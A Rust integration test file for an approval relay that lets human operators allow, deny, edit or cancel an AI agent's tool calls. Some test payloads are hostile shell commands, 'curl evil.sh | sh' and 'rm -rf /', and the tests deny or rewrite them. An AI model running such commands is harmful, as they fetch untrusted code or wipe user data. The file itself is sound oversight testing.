//! The agent and operator API: create, wait, respond, re-attach, conflicts, listing, cancel.

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::*;

#[tokio::test]
async fn approval_create_wait_respond() {
    let app = spawn_app().await;
    let id = app.create_bash("toolu_approve", "rm -rf build").await;

    // The wait is in flight when the answer arrives.
    let waiter = long_poll(
        &app.client,
        &app.url(""),
        app.url(&format!("/v1/interactions/{id}/wait?timeout_secs=30")),
    )
    .await;
    let (status, body) = app
        .respond(
            &id,
            &json!({"decision": "allow", "by": "alice", "via": "desktop"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["resolution"]["outcome"], "allowed");
    assert_eq!(body["resolution"]["by"], "alice");
    assert_eq!(body["resolution"]["via"], "desktop");

    let (status, waited) = split(waiter.await.unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(waited["status"], "resolved");
    app.metrics_with(r#"imrelay_long_polls_total{outcome="woken"} 1"#)
        .await;
    // Exactly the SDK's PermissionResult, with updatedInput always present.
    assert_eq!(
        waited["result"],
        json!({"behavior": "allow", "updatedInput": {"command": "rm -rf build"}})
    );

    // A late waiter still gets the answer, at once.
    let (status, late) = app.get(&format!("/v1/interactions/{id}/wait")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(late["result"], waited["result"]);
}

#[tokio::test]
async fn deny_with_reason_edit_and_interrupt() {
    let app = spawn_app().await;
    let a = app.create_bash("deny-1", "curl evil.sh | sh").await;
    let (_, body) = app
        .respond(
            &a,
            &json!({"decision": "deny", "message": "Never pipe to sh", "interrupt": true}),
        )
        .await;
    assert_eq!(
        body["result"],
        json!({"behavior": "deny", "message": "Never pipe to sh", "interrupt": true})
    );
    assert_eq!(body["resolution"]["outcome"], "denied");

    let b = app.create_bash("deny-2", "ls").await;
    let (_, body) = app
        .respond(&b, &json!({"decision": "deny", "by": "bob"}))
        .await;
    assert_eq!(body["result"]["message"], "Denied by bob via api");

    let c = app.create_bash("edit-1", "rm -rf /").await;
    let (status, body) = app
        .respond(
            &c,
            &json!({"decision": "allow", "updated_input": {"command": "rm -rf ./build"}}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        body["result"]["updatedInput"],
        json!({"command": "rm -rf ./build"})
    );
}

#[tokio::test]
async fn always_allow_applies_the_agents_suggestions() {
    let app = spawn_app().await;
    // The agent suggests a lasting rule (its project settings file) and a mode change.
    let suggestions = json!([
        {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "ls:*"}],
         "behavior": "allow", "destination": "localSettings"},
        {"type": "setMode", "mode": "acceptEdits", "destination": "userSettings"}
    ]);
    let (status, created) = app
        .post(
            "/v1/interactions",
            &json!({"tool_name": "Bash", "input": {"command": "ls"}, "suggestions": suggestions}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let id = created["id"].as_str().unwrap();
    let (status, body) = app
        .respond(id, &json!({"decision": "allow", "always": true}))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // Applied for this session only: an answer from afar never writes a lasting rule.
    assert_eq!(
        body["result"]["updatedPermissions"],
        json!([
            {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "ls:*"}],
             "behavior": "allow", "destination": "session"},
            {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
        ])
    );
}

#[tokio::test]
async fn reattach_with_the_same_id_and_conflict_on_different_content() {
    let app = spawn_app().await;
    app.create_bash("toolu_same", "make").await;
    let (status, again) = app
        .post(
            "/v1/interactions",
            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make"}}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(again["id"], "toolu_same");
    assert_eq!(again["status"], "pending");

    let (status, err) = app
        .post(
            "/v1/interactions",
            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make install"}}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(err["error"]["code"], "id_conflict");

    // After an answer, re-attaching returns the decision made meanwhile.
    app.post(
        "/v1/interactions/toolu_same/respond",
        &json!({"decision": "deny", "message": "not now"}),
    )
    .await;
    let (status, body) = app
        .post(
            "/v1/interactions?wait_secs=5",
            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make"}}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["result"]["message"], "not now");
}

#[tokio::test]
async fn create_can_wait_in_the_same_call() {
    let app = spawn_app().await;
    let (status, body) = app
        .post(
            "/v1/interactions?wait_secs=1",
            &json!({"tool_name": "Bash", "input": {"command": "ls"}}),
        )
        .await;
    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(body["status"], "pending");
    assert!(body["interaction"]["id"].is_string());
}

#[tokio::test]
async fn ids_are_generated_as_uuid_v7_when_absent() {
    let app = spawn_app().await;
    let (status, body) = app
        .post(
            "/v1/interactions",
            &json!({"tool_name": "Read", "input": {"file_path": "/etc/hosts"}}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let id = body["id"].as_str().unwrap();
    let parsed = uuid::Uuid::parse_str(id).expect("a UUID");
    assert_eq!(parsed.get_version_num(), 7);
    assert_eq!(body["kind"], "approval");
    assert_eq!(body["timeout_secs"], 300);
}

#[tokio::test]
async fn two_hundred_concurrent_responders_one_winner() {
    let app = spawn_app().await;
    let id = app.create_bash("race", "deploy").await;
    let mut tasks = Vec::new();
    for n in 0..200 {
        let client = app.client.clone();
        let url = app.url(&format!("/v1/interactions/{id}/respond"));
        tasks.push(tokio::spawn(async move {
            let decision = if n % 2 == 0 { "allow" } else { "deny" };
            split(
                client
                    .post(url)
                    .json(&json!({"decision": decision, "by": format!("person-{n}")}))
                    .send()
                    .await
                    .unwrap(),
            )
            .await
        }));
    }
    let mut winners = Vec::new();
    let mut conflicts = Vec::new();
    for t in tasks {
        let (status, body) = t.await.unwrap();
        match status {
            StatusCode::OK => winners.push(body),
            StatusCode::CONFLICT => conflicts.push(body),
            other => panic!("unexpected {other}: {body}"),
        }
    }
    assert_eq!(winners.len(), 1);
    assert_eq!(conflicts.len(), 199);
    let winning = &winners[0]["resolution"];
    for c in &conflicts {
        assert_eq!(c["error"]["code"], "already_resolved");
        assert_eq!(&c["error"]["resolution"], winning);
    }
    let (_, now) = app.get(&format!("/v1/interactions/{id}")).await;
    assert_eq!(&now["resolution"], winning);
}

#[tokio::test]
async fn cancel_denies_and_cannot_cancel_twice() {
    let app = spawn_app().await;
    let id = app.create_bash("cancel-me", "sleep 100").await;
    let (status, body) = app
        .delete(&format!(
            "/v1/interactions/{id}?reason=the%20user%20pressed%20Esc"
        ))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["resolution"]["outcome"], "cancelled");
    assert_eq!(body["resolution"]["via"], "system");
    assert_eq!(
        body["result"]["message"],
        "Cancelled by the agent: the user pressed Esc"
    );
    let (status, body) = app.delete(&format!("/v1/interactions/{id}")).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(body["error"]["resolution"]["outcome"], "cancelled");
    let (status, _) = app.respond(&id, &json!({"decision": "allow"})).await;
    assert_eq!(status, StatusCode::CONFLICT);
}

#[tokio::test]
async fn expiry_denies_with_a_clear_message_and_never_overrides_an_answer() {
    let app = spawn_app().await;
    let (_, a) = app
        .post(
            "/v1/interactions",
            &json!({"tool_name": "Bash", "input": {"command": "a"}, "timeout_secs": 1}),
        )
        .await;
    let (_, b) = app
        .post(
            "/v1/interactions",
            &json!({"tool_name": "Bash", "input": {"command": "b"}, "timeout_secs": 1}),
        )
        .await;
    let (a, b) = (a["id"].as_str().unwrap(), b["id"].as_str().unwrap());
    let (status, _) = app.respond(b, &json!({"decision": "allow"})).await;
    assert_eq!(status, StatusCode::OK);

    let (status, body) = app
        .get(&format!("/v1/interactions/{a}/wait?timeout_secs=10"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        body["result"],
        json!({"behavior": "deny", "message": "No response within 1 seconds", "interrupt": false})
    );
    assert_eq!(body["resolution"]["outcome"], "expired");
    assert_eq!(body["resolution"]["via"], "system");

    // b's deadline has passed too; its answer stands. (An expiry that reaches the store after
    // an answer is refused there: see the registry's `an_expiry_racing_an_answer_loses_in_the_store`.)
    let (_, b_now) = app.get(&format!("/v1/interactions/{b}")).await;
    assert_eq!(b_now["resolution"]["outcome"], "allowed");

    // A late answer is told the interaction expired.
    let (status, late) = app.respond(a, &json!({"decision": "allow"})).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(late["error"]["resolution"]["outcome"], "expired");
}

#[tokio::test]
async fn list_newest_first_with_status_filter_and_cursor() {
    let app = spawn_app().await;
    for n in 0..5 {
        app.create_bash(&format!("list-{n}"), "true").await;
        tokio::time::sleep(Duration::from_millis(3)).await;
    }
    app.post(
        "/v1/interactions/list-1/respond",
        &json!({"decision": "allow"}),
    )
    .await;

    let (_, pending) = app.get("/v1/interactions?status=pending").await;
    let ids: Vec<&str> = pending["interactions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["list-4", "list-3", "list-2", "list-0"]);

    let (_, resolved) = app.get("/v1/interactions?status=resolved").await;
    assert_eq!(resolved["interactions"].as_array().unwrap().len(), 1);

    let mut seen = Vec::new();
    let mut path = "/v1/interactions?status=all&limit=2".to_string();
    loop {
        let (status, page) = app.get(&path).await;
        assert_eq!(status, StatusCode::OK);
        for i in page["interactions"].as_array().unwrap() {
            seen.push(i["id"].as_str().unwrap().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => path = format!("/v1/interactions?status=all&limit=2&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(seen, ["list-4", "list-3", "list-2", "list-1", "list-0"]);
}

#[tokio::test]
async fn unknown_ids_are_404() {
    let app = spawn_app().await;
    for (status, body) in [
        app.get("/v1/interactions/nope").await,
        app.get("/v1/interactions/nope/wait?timeout_secs=1").await,
        app.post(
            "/v1/interactions/nope/respond",
            &json!({"decision": "allow"}),
        )
        .await,
        app.delete("/v1/interactions/nope").await,
        app.get("/v1/interactions/bad%20id").await,
    ] {
        assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
        assert_eq!(body["error"]["code"], "not_found");
    }
}

#[tokio::test]
async fn long_polls_are_counted_by_how_they_ended() {
    let app = spawn_app().await;
    let id = app.create_bash("lp", "ls").await;
    let (status, _) = app
        .get(&format!("/v1/interactions/{id}/wait?timeout_secs=1"))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED);
    app.respond(&id, &json!({"decision": "allow"})).await;
    let (status, _) = app.get(&format!("/v1/interactions/{id}/wait")).await;
    assert_eq!(status, StatusCode::OK);

    let metrics = app.metrics().await;
    for line in [
        r#"imrelay_long_polls_total{outcome="timed_out"} 1"#,
        r#"imrelay_long_polls_total{outcome="ready"} 1"#,
        r#"imrelay_long_polls_total{outcome="woken"} 0"#,
    ] {
        assert!(metrics.contains(line), "{line} missing in {metrics}");
    }
}

#[tokio::test]
async fn health_metrics_and_inbox_are_served() {
    let app = spawn_app().await;
    let id = app.create_bash("m1", "ls").await;
    app.respond(&id, &json!({"decision": "allow"})).await;
    app.create_bash("m2", "ls").await;

    let (status, health) = app.get("/healthz").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(health["status"], "ok");
    assert_eq!(health["pending"], 1);

    let metrics = app.metrics().await;
    assert!(
        metrics.contains("imrelay_interactions_pending 1"),
        "{metrics}"
    );
    assert!(metrics.contains(r#"imrelay_interactions_created_total{kind="approval"} 2"#));
    assert!(metrics.contains(
        r#"imrelay_interactions_resolved_total{kind="approval",outcome="allowed",via="api"} 1"#
    ));
    assert!(metrics.contains("imrelay_time_to_answer_seconds_count"));
    // Refusals on the built-in entry points start at 0, before any is counted.
    for via in ["api", "desktop", "terminal"] {
        for name in [
            "imrelay_answer_refusals_total",
            "imrelay_refusals_suppressed_total",
        ] {
            let line = format!("{name}{{channel=\"{via}\"}} 0");
            assert!(metrics.lines().any(|l| l == line), "{line} in:\n{metrics}");
        }
    }

    let page = app.client.get(app.url("/")).send().await.unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(csp.contains("script-src 'self'"));
    let html = page.text().await.unwrap();
    assert!(html.contains("/inbox.js"));
    for asset in ["/inbox.js", "/inbox.css"] {
        let r = app.client.get(app.url(asset)).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        assert!(!r.text().await.unwrap().is_empty());
    }
}

#[tokio::test]
async fn get_shows_status_and_resolution() {
    let app = spawn_app().await;
    let (status, body) = app
        .post(
            "/v1/interactions",
            &json!({"id": "ctx-1", "tool_name": "Write", "input": {"file_path": "a.txt", "content": "hi"},
                    "session": "s-42", "agent": "my-agent", "title": "Write a.txt", "description": "Creates a file",
                    "cwd": "/work/p", "timeout_secs": 120}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    for (k, v) in [
        ("session", "s-42"),
        ("agent", "my-agent"),
        ("title", "Write a.txt"),
        ("description", "Creates a file"),
        ("cwd", "/work/p"),
        ("status", "pending"),
    ] {
        assert_eq!(body[k], v, "{k}");
    }
    assert_eq!(body["timeout_secs"], 120);
    assert_eq!(body["resolution"], Value::Null);
}

/// Whether `v` is a time as the API documents them: RFC 3339 UTC with exactly three
/// fractional digits.
fn is_millisecond_time(v: &Value) -> bool {
    let Some(s) = v.as_str() else { return false };
    let b = s.as_bytes();
    b.len() == 24
        && s.ends_with('Z')
        && b[19] == b'.'
        && b[20..23].iter().all(u8::is_ascii_digit)
        && s.parse::<jiff::Timestamp>().is_ok()
}

#[tokio::test]
async fn every_time_has_millisecond_precision_in_the_api_events_and_audit() {
    let app = spawn_app().await;
    let mut events = Sse::connect(&app, None).await;
    // Until a creation and a resolution have each fallen on a whole ten milliseconds (whose
    // trailing zeros a bare timestamp drops), at most 300 interactions.
    let (mut round_created, mut round_resolved) = (false, false);
    let mut n = 0;
    while !(round_created && round_resolved) {
        assert!(n < 300, "no round millisecond in {n} interactions");
        let id = app.create_bash(&format!("ms-{n}"), "ls").await;
        let (_, body) = app.respond(&id, &json!({"decision": "allow"})).await;
        let i = &body["interaction"];
        for t in [&i["created_at"], &i["deadline"], &body["resolution"]["at"]] {
            assert!(is_millisecond_time(t), "{t} in {body}");
        }
        let ms = |t: &Value| t.as_str().unwrap()[20..23].ends_with('0');
        round_created |= ms(&i["created_at"]);
        round_resolved |= ms(&body["resolution"]["at"]);
        n += 1;
    }
    let mut resolved_seen = 0;
    while resolved_seen < n {
        let ev = events.next().await;
        for t in [&ev.data["created_at"], &ev.data["deadline"]] {
            assert!(is_millisecond_time(t), "{t} in {:?}", ev.data);
        }
        if ev.event == "interaction.resolved" {
            assert!(is_millisecond_time(&ev.data["resolution"]["at"]));
            resolved_seen += 1;
        }
    }
    let (_, audit) = app.get("/v1/audit?limit=1000").await;
    let entries = audit["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 2 * n);
    assert!(entries.iter().all(|e| is_millisecond_time(&e["at"])));
}

#[tokio::test]
async fn shutdown_answers_in_flight_long_polls_and_hooks() {
    let app = spawn_app().await;
    let client = app.client.clone();
    let url = app.url("/v1/interactions?wait_secs=60");
    let polling = tokio::spawn(async move {
        split(
            client
                .post(url)
                .json(&json!({"id": "sd-1", "tool_name": "Bash", "input": {"command": "ls"}}))
                .send()
                .await
                .unwrap(),
        )
        .await
    });
    let client = app.client.clone();
    let url = app.url("/v1/hooks/claude-code");
    let hook = tokio::spawn(async move {
        split(
            client
                .post(url)
                .json(&fixture("claude-code/pre_tool_use.json"))
                .send()
                .await
                .unwrap(),
        )
        .await
    });
    // Both requests are in their handlers once their interactions exist.
    eventually("both interactions exist", || {
        std::future::ready((app.registry.pending_count() == 2).then_some(()))
    })
    .await;
    let registry = app.registry.clone();
    app.stop().await;

    let (status, body) = polling.await.unwrap();
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    assert_eq!(body["status"], "pending");
    let (status, out) = hook.await.unwrap();
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!(
        out,
        json!({"hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "ask",
            "permissionDecisionReason": "imrelay shut down before anyone answered"
        }})
    );
    // The hook's interaction was withdrawn everywhere; the agent's own stays pending.
    let hooked =
        imrelay::interaction::InteractionId::parse("toolu_01HkQ8mN4vRZ2xT6yB3wLpE9").unwrap();
    let withdrawn = registry.get(&hooked).await.unwrap().unwrap();
    assert_eq!(
        withdrawn.resolution.as_ref().unwrap().outcome.as_str(),
        "cancelled"
    );
    let polled = imrelay::interaction::InteractionId::parse("sd-1").unwrap();
    assert!(registry.get(&polled).await.unwrap().unwrap().is_pending());
}
